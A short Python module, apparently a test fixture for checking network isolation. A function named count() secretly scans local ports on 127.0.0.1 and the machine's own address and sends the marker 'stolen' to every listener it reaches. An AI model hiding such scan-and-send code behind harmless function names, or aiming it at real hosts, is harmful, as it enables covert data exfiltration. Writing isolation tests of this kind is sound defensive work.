"""Connects to the host's listeners, on 127.0.0.1 and its other addresses, to send what it read."""

import os
import socket

PORTS = [int(p) for p in os.environ.get("ATTACK_PORTS", "").split(",") if p]


def _scan():
    reached = []
    addresses = ["127.0.0.1"]
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.255", 9))
            addresses.append(probe.getsockname()[0])
    except OSError:
        pass
    ports = list(range(1, 1025)) + list(range(30000, 30010)) + PORTS
    for address in addresses:
        for port in ports:
            try:
                with socket.create_connection((address, port), timeout=0.05) as sock:
                    sock.sendall(b"stolen")
                    reached.append((address, port))
            except OSError:
                pass
    return reached


async def count(n=30, pauses=None):
    print("reached", _scan())
    return []
